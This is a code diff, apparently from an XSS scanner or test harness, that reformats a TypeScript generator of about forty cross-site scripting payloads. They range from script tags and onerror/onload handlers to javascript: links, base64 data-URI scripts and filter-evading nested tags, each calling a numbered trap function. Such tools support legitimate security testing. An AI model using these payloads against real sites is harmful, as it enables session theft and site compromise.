@@ -3,7 +3,8 @@ export const RAN = 'XSS-RAN-';
 /** A payload calls the trap with the number of its field and its own, as short as it can be: short fields hold it too. */
 const callOf = (field: number, place: number): string => `R(${field * 100 + place + 1})`;
 /** The numbers of the calls that a text shows. */
-export const callsIn = (text: string): number[] => [...text.matchAll(/\bR\((\d{3,5})\)/g)].map(([, number]) => Number(number));
+export const callsIn = (text: string): number[] =>
+  [...text.matchAll(/\bR\((\d{3,5})\)/g)].map(([, number]) => Number(number));
 type Idea = readonly [idea: string, make: (run: string) => string];
 const IDEAS: readonly Idea[] = [
   ['a script', (run) => `<script>${run}</script>`],
@@ -15,7 +16,11 @@ const IDEAS: readonly Idea[] = [
   ['a script in a script that is taken out', (run) => `<scr<script>ipt>${run}</script>`],
   ['a module', (run) => `<script type=module>${run}</script>`],
   ['a script from data', (run) => `<script src="data:,${run}"></script>`],
-  ['a script in base64', (run) => `<script src=data:text/javascript;base64,${Buffer.from(run).toString('base64')}></script><!--${run}-->`],
+  [
+    'a script in base64',
+    (run) =>
+      `<script src=data:text/javascript;base64,${Buffer.from(run).toString('base64')}></script><!--${run}-->`,
+  ],
   ['a picture that fails', (run) => `<img src=x onerror=${run}>`],
   ['a picture that fails, quoted', (run) => `"><img src=x onerror="${run}">`],
   ['a picture that fails, in single quotes', (run) => `'><img src=x onerror='${run}'>`],
@@ -23,7 +28,10 @@ const IDEAS: readonly Idea[] = [
   ['a drawing that loads', (run) => `<svg onload=${run}>`],
   ['a drawing with a script', (run) => `<svg><script>${run}</script></svg>`],
   ['a drawing that moves', (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`],
-  ['a drawing with a link', (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`],
+  [
+    'a drawing with a link',
+    (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
+  ],
   ['a formula', (run) => `<math><mtext></mtext><img src onerror=${run}></math>`],
   ['a body', (run) => `<body onload=${run}>`],
   ['details that open', (run) => `<details open ontoggle=${run}>`],
@@ -48,9 +56,16 @@ const IDEAS: readonly Idea[] = [
   ['entities', (run) => `&lt;img src=x onerror=${run}&gt;&#60;script&#62;${run}&#60;/script&#62;`],
 ];
 /** Own corpus: forty ways in which a text becomes a script, as the field of a number gets them. */
-const payloadsFor = (field: number): { text: string; call: number }[] => IDEAS.map(([, make], place) => ({ text: make(callOf(field, place)), call: field * 100 + place + 1 }));
+const payloadsFor = (field: number): { text: string; call: number }[] =>
+  IDEAS.map(([, make], place) => ({
+    text: make(callOf(field, place)),
+    call: field * 100 + place + 1,
+  }));
 export const PAYLOAD_COUNT = IDEAS.length;
-export const SOME_PAYLOADS = payloadsFor(1).slice(0, 6).map(({ text }) => text).join(' ');
+export const SOME_PAYLOADS = payloadsFor(1)
+  .slice(0, 6)
+  .map(({ text }) => text)
+  .join(' ');
 
 export type Pack = { text: string; calls: number[] };
 /** A field's payloads in as few texts as there have to be of a length, beginning with another one in each field. One that is longer alone or has what may not stand there is left out. */
@@ -61,7 +76,8 @@ export function packsFor(field: number, length: number, without?: RegExp): Pack[
   for (const { text, call } of [...all.slice(from), ...all.slice(0, from)]) {
     const last = packs.at(-1);
     if (text.length > length || without?.test(text) === true) continue;
-    if (last !== undefined && last.text.length + text.length < length) packs[packs.length - 1] = { text: `${last.text} ${text}`, calls: [...last.calls, call] };
+    if (last !== undefined && last.text.length + text.length < length)
+      packs[packs.length - 1] = { text: `${last.text} ${text}`, calls: [...last.calls, call] };
     else packs.push({ text, calls: [call] });
   }
   return packs;
